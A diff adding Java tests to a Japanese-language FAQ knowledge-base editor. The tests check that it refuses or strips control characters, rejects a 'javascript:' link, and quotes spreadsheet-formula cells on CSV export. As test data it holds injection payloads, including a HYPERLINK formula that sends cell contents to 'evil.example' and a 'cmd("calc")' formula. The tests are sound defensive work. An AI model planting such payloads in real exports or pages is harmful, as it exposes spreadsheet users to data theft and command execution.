@@ -1,11 +1,13 @@
 package io.tsutawaru.kb.editing;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import io.tsutawaru.kb.Decision;
 import io.tsutawaru.kb.FaqEditor;
 import io.tsutawaru.kb.FaqEntry;
 import io.tsutawaru.kb.ImportReport.RejectedRow;
+import io.tsutawaru.kb.InvalidFaqEntryException;
 import io.tsutawaru.kb.KnowledgeBase;
 import io.tsutawaru.kb.KnowledgeBaseTest;
 import java.io.ByteArrayInputStream;
@@ -141,6 +143,75 @@ class ImportExportTests extends KnowledgeBaseTest {
         assertThat(fromJson.imported()).isEqualTo(fromCsv.imported());
         assertThat(knowledgeBase.find("round-trip")).hasValueSatisfying(after -> assertSameContent(after, before));
         assertThat(knowledgeBase.search("カエデ図書館の返却ポスト", "ja").decision()).isNotEqualTo(Decision.NOT_FOUND);
+    }
+
+    /** Issue 15, item 8: staff editing an entry can fix an invisible character, so it is refused with its place. */
+    @Test
+    void refusesAnEntryWithACharacterNoChannelCanCarryNamingTheFieldAndPosition() {
+        var entry = new FaqEntry("unfit-1", "粗大ごみ\u0000の出し方", List.of("ごみ\uFFFE"), "電話で申し込みます。", null, null,
+                null, null, "ja", null, true);
+        assertThatThrownBy(() -> editor.save(entry)).isInstanceOf(InvalidFaqEntryException.class)
+                .hasMessageContaining("question").hasMessageContaining("U+0000").hasMessageContaining("position 4");
+        var alternative = new FaqEntry("unfit-2", "粗大ごみの出し方", List.of("ごみ", "粗大\uD800"), "答え", null, null, null,
+                null, "ja", null, true);
+        assertThatThrownBy(() -> editor.save(alternative)).hasMessageContaining("alternatives[1]").hasMessageContaining("U+D800");
+        var hours = new FaqEntry("unfit-3", "質問", List.of(), "答え", null, null, new io.tsutawaru.kb.Contact(null, "9時\u0085"),
+                null, "ja", null, true);
+        assertThatThrownBy(() -> editor.save(hours)).hasMessageContaining("hours");
+        assertThat(knowledgeBase.find("unfit-1")).isEmpty();
+    }
+
+    @Test
+    void refusesALinkThatIsNotAWebAddress() {
+        var entry = new FaqEntry("link-1", "質問", List.of(), "答え", null, null, null,
+                java.net.URI.create("javascript:alert(1)"), "ja", null, true);
+        assertThatThrownBy(() -> editor.save(entry)).hasMessageContaining("url");
+    }
+
+    /** An import row is cleaned instead: nobody can see the character in Excel, and the row is not lost over it. */
+    @Test
+    void importsRowsWithCharactersNoChannelCanCarryWithoutThem() {
+        String csv = HEADER + "clean-1,\"粗大\u0000ごみ\u000Bの\uFFFF出し方\",ごみ\u0001,\"電話で\u001F申し込みます。\",,環境\u0085課,,,,,\n";
+        String json = "[{\"id\":\"clean-2\",\"question\":\"資源ごみ\\u0002の日\",\"answer\":\"水曜\\ud800です。\"}]";
+
+        var fromCsv = editor.importCsv(new ByteArrayInputStream(csv.getBytes(StandardCharsets.UTF_8)));
+        var fromJson = editor.importJson(new ByteArrayInputStream(json.getBytes(StandardCharsets.UTF_8)));
+
+        assertThat(fromCsv.rejected()).isEmpty();
+        assertThat(fromJson.rejected()).isEmpty();
+        assertThat(knowledgeBase.find("clean-1")).hasValueSatisfying(entry -> {
+            assertThat(entry.question()).isEqualTo("粗大ごみの出し方");
+            assertThat(entry.alternatives()).containsExactly("ごみ");
+            assertThat(entry.answer()).isEqualTo("電話で申し込みます。");
+            assertThat(entry.department()).isEqualTo("環境課");
+        });
+        assertThat(knowledgeBase.find("clean-2")).hasValueSatisfying(entry -> {
+            assertThat(entry.question()).isEqualTo("資源ごみの日");
+            assertThat(entry.answer()).isEqualTo("水曜\uFFFDです。");
+        });
+    }
+
+    /**
+     * Issue 15, item 11: an exported cell a spreadsheet would read as a formula is quoted (OWASP), and the quote is
+     * taken away again when the file comes back, so the round trip keeps the text.
+     */
+    @Test
+    void exportedCellsAreNeverFormulasAndImportBackAsTheyWere() throws Exception {
+        editor.save(new FaqEntry("formula-1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"予約\")", List.of("+1+cmd(\"calc\")"),
+                "-持ち物: 身分証", "@SUM(1)", "-市民課", null, null, "ja", null, true));
+        FaqEntry before = knowledgeBase.find("formula-1").orElseThrow();
+        var csv = new ByteArrayOutputStream();
+        editor.exportCsv(csv);
+
+        var parsed = org.apache.commons.csv.CSVParser.parse(csv.toString(StandardCharsets.UTF_8).substring(1),
+                org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().get());
+        var row = parsed.getRecords().stream().filter(r -> r.get("id").equals("formula-1")).findFirst().orElseThrow();
+        for (String column : List.of("question", "alternatives", "answer", "category", "department")) {
+            assertThat(row.get(column)).as(column).startsWith("'");
+        }
+        editor.delete("formula-1");
+        assertThat(editor.importCsv(new ByteArrayInputStream(csv.toByteArray())).rejected()).isEmpty();
+        assertThat(knowledgeBase.find("formula-1")).hasValueSatisfying(after -> assertSameContent(after, before));
     }
 
     private static void assertSameContent(FaqEntry actual, FaqEntry expected) {
